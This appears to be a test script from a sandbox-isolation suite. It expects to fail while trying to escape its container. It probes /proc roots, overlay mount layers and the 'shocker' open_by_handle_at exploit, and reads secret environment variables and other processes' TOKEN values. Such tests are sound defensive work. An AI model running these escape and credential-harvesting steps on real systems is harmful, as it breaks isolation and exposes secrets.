# tries: reads a file of this machine, through the roots of other processes, mounts, handles and names that lead up
# ends: fail objective-missed
# quick: yes
import ctypes
import glob
import os
import re

from attempts import attempt

CANARY = "@CANARY@"
libc = ctypes.CDLL(None, use_errno=True)


def read(path):
    with open(path) as file:
        return file.read(200)


def by_handle():
    """Open by the number of its inode, as "shocker" did."""
    handle = (ctypes.c_char * 16)()
    handle[0:8] = (8).to_bytes(4, "little") + (1).to_bytes(4, "little")
    handle[8:16] = (2).to_bytes(8, "little")
    got = libc.syscall(304, os.open("/app", os.O_RDONLY), handle, os.O_RDONLY)
    if got < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return got


ROOTS = ["", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/app/../..", "/app/../../../../../..", "/host", "/mnt"]
ROOTS += glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd")
ROOTS += [f"/proc/self/fd/{fd}" for fd in os.listdir("/proc/self/fd")]
for root in ROOTS:
    attempt(f"the file by {root or '/'}", lambda: read(f"{root}{CANARY}"))
with open("/proc/self/mountinfo") as file:
    mounts = file.read()
for place in sorted(set(re.findall(r"(?:upperdir|lowerdir|workdir)=([^,:\s]+)", mounts))):
    attempt(f"the layer {place}", lambda: os.listdir(place))
for row in mounts.splitlines():
    words = row.split()
    if words[3].startswith("@COURSE@"):  # where this code lies on the machine
        attempt(f"what lies beside {words[3]}", lambda: os.listdir(os.path.dirname(words[3])))
attempt("a handle of the root's inode", by_handle)
for name in ("HOSTILE_SECRET", "BROWNOUT_TOKEN", "BROWNOUT_HOME"):
    attempt(f"the variable {name}", lambda: os.environ.get(name))
attempt("others' variables", lambda: [p for p in glob.glob("/proc/[0-9]*/environ") if b"TOKEN" in open(p, "rb").read()])
